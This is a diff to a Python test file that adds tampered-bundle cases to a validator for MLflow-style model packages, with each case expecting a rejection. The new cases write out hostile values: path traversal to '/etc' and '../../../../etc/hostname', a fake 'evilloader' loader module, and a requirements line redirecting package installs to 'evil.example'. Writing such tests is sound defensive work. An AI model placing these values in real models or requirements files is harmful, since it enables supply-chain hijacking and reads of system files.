@@ -12,7 +12,7 @@ import os
 import re
 import shutil
 from pathlib import Path
-from typing import ClassVar
+from typing import Any, ClassVar
 
 import pytest
 import yaml
@@ -197,6 +197,10 @@ def _bad_schema(folder: Path) -> None:
     rewrite(folder, lambda r: r["metrics"][0].update({"step": -1}))
 
 
+def _nan_metric(folder: Path) -> None:  # #32.18: it was imported
+    rewrite(folder, lambda r: r["metrics"][0].update({"value": float("nan")}))
+
+
 def _running(folder: Path) -> None:
     rewrite(folder, lambda r: r.update({"status": "RUNNING"}))
 
@@ -277,6 +281,29 @@ def _pickled_evidence(folder: Path) -> None:
     _added(folder, "artifacts/evaluation/per_example.npz", buffer.getvalue(), [])
 
 
+def _replaced(folder: Path, rel: str, data: bytes) -> None:
+    """`rel` rewritten in the bundle and listed right (its size and sha256 in bundle.json)."""
+    (folder / rel).write_bytes(data)
+    entry = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
+    rewrite(folder, lambda r: r["files"].update({rel: entry}))
+
+
+def _mlmodel(change) -> Any:
+    """A tamper that edits model/MLmodel's python_function flavor with `change`."""
+
+    def tamper(folder: Path) -> None:
+        mlmodel = yaml.safe_load((folder / "model" / "MLmodel").read_text())
+        change(mlmodel["flavors"]["python_function"])
+        _replaced(folder, "model/MLmodel", yaml.safe_dump(mlmodel).encode())
+
+    return tamper
+
+
+def _index_url(folder: Path) -> None:  # #32.18: a model environment installing from elsewhere
+    text = (folder / "model" / "requirements.txt").read_text()
+    _replaced(folder, "model/requirements.txt", f"--index-url https://evil.example/simple\n{text}".encode())
+
+
 HOSTILE = {
     "symlink": (_symlink, "artifacts/passwd: a symbolic link; a bundle holds plain files only", ()),
     "dotdot": (_dotdot, "files: 'artifacts/../../etc/cron.d/x': a path must stay under artifacts or model/", ()),
@@ -307,6 +334,7 @@ HOSTILE = {
     ),
     "other-params": (_other_params, "params: they make spec sha256", ()),
     "schema": (_bad_schema, "bundle.json: metrics.0.step: Input should be greater than or equal to 0", ()),
+    "nan-metric": (_nan_metric, "bundle.json: metrics.0.value: Input should be a finite number", ()),
     "running": (_running, "bundle.json: status: Input should be 'FINISHED' or 'FAILED'", ()),
     "forged-metric": (
         _forged_metric,
@@ -325,6 +353,37 @@ HOSTILE = {
     "long-param-key": (_long_param_key, "String should have at most 250 characters", ()),
     "bidi-name": (_bidi_name, "a control or formatting character (U+202E) in a file name", ()),
     "nfd-twin": (_nfd_twin, "are the same name in Unicode (NFC)", ()),
+    "evil-loader": (
+        _mlmodel(lambda f: f.update({"loader_module": "evilloader"})),
+        "model/MLmodel: flavors.python_function.loader_module: 'evilloader' is not one of MLflow's flavors",
+        (),
+    ),
+    "code-outside": (
+        _mlmodel(lambda f: f.update({"code": "../../.."})),
+        "model/MLmodel: flavors.python_function.code: '../../..' must be a path inside the model folder",
+        (),
+    ),
+    "code-absolute": (
+        _mlmodel(lambda f: f.update({"code": "/etc"})),
+        "flavors.python_function.code: '/etc' must be a path inside the model folder",
+        (),
+    ),
+    "artifact-outside": (
+        _mlmodel(lambda f: f["artifacts"]["keras_model"].update({"path": "../../../../etc/hostname"})),
+        "flavors.python_function.artifacts.keras_model.path: '../../../../etc/hostname' must be a path inside",
+        (),
+    ),
+    "artifact-missing": (
+        _mlmodel(lambda f: f["artifacts"]["keras_model"].update({"path": "artifacts/elsewhere.h5"})),
+        "flavors.python_function.artifacts.keras_model.path: 'artifacts/elsewhere.h5' names no file the bundle",
+        (),
+    ),
+    "index-url": (
+        _index_url,
+        "model/requirements.txt: '--index-url https://evil.example/simple' (entry 1): a model's requirements are "
+        "package names and versions",
+        (),
+    ),
     "pickled-evidence": (
         _pickled_evidence,
         "artifacts/evaluation/per_example.npz: not a numpy .npz of plain arrays (ValueError: Object arrays",
